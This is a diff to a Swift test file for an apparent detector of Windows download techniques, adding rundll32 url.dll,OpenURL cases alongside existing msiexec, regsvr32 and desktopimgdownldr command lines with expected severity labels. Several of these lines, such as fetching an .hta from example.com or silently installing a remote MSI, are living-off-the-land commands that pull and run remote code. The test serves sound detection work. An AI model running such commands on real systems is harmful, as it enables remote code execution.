@@ -62,6 +62,10 @@ import Watches
             .download),
         Case("regsvr32.exe", "regsvr32 /s a.dll", nil, nil),
         Case("msiexec.exe", "msiexec /q /i http://example.com/a.msi", "transfer.download medium", .download),
+        Case("rundll32.exe", "rundll32.exe url.dll,OpenURL file://C:/Windows/system32/calc.exe", nil, nil),
+        Case(
+            "rundll32.exe", "rundll32.exe url.dll,OpenURL http://example.com/a.hta", "transfer.download medium",
+            .download),
         Case("msiexec.exe", "msiexec /i a.msi SERVER=https://mdm.example", nil, nil),
         Case(
             "desktopimgdownldr.exe", "desktopimgdownldr /lockscreenurl:https://e.example/a", "transfer.download high",
